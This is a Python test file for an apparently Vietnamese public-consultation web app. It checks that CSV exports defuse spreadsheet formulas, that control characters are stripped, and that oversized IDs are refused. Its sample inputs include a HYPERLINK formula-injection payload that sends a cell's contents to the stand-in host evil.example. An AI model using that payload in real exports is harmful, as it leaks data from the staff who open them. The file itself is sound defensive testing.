"""What citizens type cannot attack the staff who open an export, nor break a document: a
cell that could start a formula opens as text; a NUL or another control character never
reaches the database."""

from __future__ import annotations

import csv
import io

from flask.testing import FlaskClient
from sqlalchemy import update
from sqlmodel import Session, select

from consult.db import write_session
from consult.documents import docx_reader
from consult.models import Comment, Organization
from consult.runtime import Runtime
from consult.scope import BIGGEST_ID
from consult.text import spreadsheet_cell
from tests.helpers import MORNING_AFTER_WINDOW, Clock, csrf, login, post_draft, start, take

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+84 912 345 678",
    "-2+3",
    "@SUM(1+1)",
]


def opened(runtime: Runtime, commune: Organization) -> int:
    consultation_id = start(runtime, commune)
    post_draft(runtime, consultation_id)
    return consultation_id


def stored(runtime: Runtime, consultation_id: int) -> list[Comment]:
    with Session(runtime.db) as session:
        query = select(Comment).where(Comment.consultation_id == consultation_id)
        return list(session.exec(query.order_by(Comment.id)))  # type: ignore[arg-type]


def test_a_cell_that_could_start_a_formula_opens_as_text_in_the_csv_exports(
    client: FlaskClient, runtime: Runtime, commune: Organization
) -> None:
    consultation_id = opened(runtime, commune)
    for body in FORMULAS:
        sent = client.post(
            f"/api/v1/consultations/{consultation_id}/comments",
            json={"body": body, "author_name": "=1+1"},
        )
        assert sent.status_code == 201, sent.get_json()
    login(client, "mttq")
    for public in ("0", "1"):
        export = client.get(f"/staff/review/{consultation_id}/export.csv?public={public}")
        assert export.status_code == 200
        raw = export.data
        assert b"'=HYPERLINK(" in raw and b"\n=HYPERLINK" not in raw and b",=" not in raw
        rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
        header, data = rows[0], rows[1:]
        bodies = [row[header.index("Nội dung ý kiến")] for row in data]
        assert bodies == ["'" + body for body in FORMULAS]
        for row in data:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        if public == "0":
            assert {row[header.index("Họ và tên")] for row in data} == {"'=1+1"}


def test_ordinary_text_and_numbers_are_left_as_they_are() -> None:
    assert spreadsheet_cell("Nhất trí với dự thảo.") == "Nhất trí với dự thảo."
    assert spreadsheet_cell("Đề nghị = công bằng") == "Đề nghị = công bằng"
    assert spreadsheet_cell(-3) == -3 and spreadsheet_cell("") == ""
    assert spreadsheet_cell("\t=1+1") == "'\t=1+1" and spreadsheet_cell("\r=1") == "'\r=1"


def test_a_nul_in_any_field_never_reaches_the_database(
    client: FlaskClient, runtime: Runtime, commune: Organization
) -> None:
    consultation_id = opened(runtime, commune)
    sent = client.post(
        f"/api/v1/consultations/{consultation_id}/comments",
        json={
            "body": "Ý kiến\u0000 có\u0007 ký tự lạ\nxuống dòng\ttab",
            "locality": "Thôn\u0000Y",
            "author_name": "Trần\u0000 Mai",
            "contact": "09\u001b12",
        },
    )
    assert sent.status_code == 201, sent.get_json()
    path = f"/consultations/{consultation_id}/comment"
    form = client.post(
        path,
        data={
            "csrf_token": csrf(client, path),
            "body": "Qua biểu mẫu\u0000 có NUL",
            "author_name": "Lê\u0000 Văn",
            "article": "",
            "locality": "",
        },
    )
    assert form.status_code == 302
    api, web = stored(runtime, consultation_id)
    assert api.body == "Ý kiến có ký tự lạ\nxuống dòng\ttab"  # line breaks and tabs kept
    assert (api.locality, api.author_name, api.contact) == ("ThônY", "Trần Mai", "0912")
    assert web.body == "Qua biểu mẫu có NUL" and web.author_name == "Lê Văn"


def test_a_control_character_stored_before_never_breaks_the_synthesis_report(
    client: FlaskClient, runtime: Runtime, commune: Organization, clock: Clock
) -> None:
    consultation_id = opened(runtime, commune)
    client.post(
        f"/api/v1/consultations/{consultation_id}/comments",
        json={"body": "Nhất trí.", "locality": "Thôn Y"},
    )
    # A row written before the rule existed. A vertical tab is as invalid in a Word file's XML as
    # a NUL, and unlike a NUL PostgreSQL stores it, so the case is the same on both databases.
    with write_session(runtime.db) as session:
        session.execute(update(Comment).values(locality="Thôn\x0bY", body="Nhất\x0b trí."))
    clock.set(MORNING_AFTER_WINDOW)
    take(runtime, consultation_id, "close_posting", "system")
    login(client, "tuphap")
    token = csrf(client, f"/staff/review/{consultation_id}/report")
    generated = client.post(
        f"/staff/review/{consultation_id}/report/generate", data={"csrf_token": token}
    )
    assert generated.status_code == 302
    report = client.get(f"/staff/review/{consultation_id}/report.docx")
    assert report.status_code == 200
    assert "ThônY" in docx_reader.text(report.data)


HUGE = "99999999999999999999999"  # beyond 64 bits: no database column holds it


def test_an_id_beyond_what_the_database_holds_is_not_found_on_pages_and_in_the_api(
    client: FlaskClient, runtime: Runtime, commune: Organization
) -> None:
    consultation_id = opened(runtime, commune)
    for path in (
        f"/api/v1/consultations/{HUGE}",
        f"/api/v1/consultations/{HUGE}/documents",
        f"/api/v1/consultations/{BIGGEST_ID + 1}",
        f"/api/v1/documents/{HUGE}",
        f"/api/v1/holidays/{HUGE}",
        f"/consultations/{HUGE}",
        f"/documents/{HUGE}/download",
    ):
        answer = client.get(path)
        assert answer.status_code == 404, (path, answer.status_code)
    sent = client.post(f"/api/v1/consultations/{HUGE}/comments", json={"body": "Nhất trí."})
    assert sent.status_code == 404 and sent.get_json()["error"]["code"] == "not_found"
    login(client, "tuphap")
    for method in ("PATCH", "DELETE"):
        answer = client.open(f"/api/v1/consultations/{HUGE}", method=method, json={"title": "x"})
        assert answer.status_code in (401, 404), (method, answer.status_code)
    for path in (f"/staff/consultations/{HUGE}", f"/staff/review/{HUGE}"):
        assert client.get(path).status_code == 404, path
    # the largest id the database holds is an ordinary unknown id, and a real one still opens
    assert client.get(f"/api/v1/consultations/{BIGGEST_ID}").status_code == 404
    assert client.get(f"/api/v1/consultations/{consultation_id}").status_code == 200


def test_a_number_beyond_what_the_database_holds_in_a_query_is_refused_naming_the_field(
    client: FlaskClient, runtime: Runtime, commune: Organization
) -> None:
    consultation_id = opened(runtime, commune)
    token = client.post(
        "/api/v1/auth/token", json={"username": "mttq", "password": "dongson2024"}
    ).get_json()["token"]
    headers = {"Authorization": f"Bearer {token}"}
    for path, field in (
        (f"/api/v1/consultations/{consultation_id}/comments?page={HUGE}", "page"),
        (f"/api/v1/register?year={HUGE}", "year"),
        (f"/api/v1/register?number={HUGE}", "number"),
        (f"/api/v1/register/check?number={HUGE}", "number"),
    ):
        answer = client.get(path, headers=headers)
        assert answer.status_code == 422, (path, answer.status_code, answer.get_json())
        assert field in answer.get_json()["error"]["fields"], answer.get_json()
    login(client, "mttq")
    for path in (
        f"/consultations?page={HUGE}",
        f"/?page={HUGE}",
        f"/review/{consultation_id}?page={HUGE}",
    ):
        assert client.get(path).status_code < 500, path
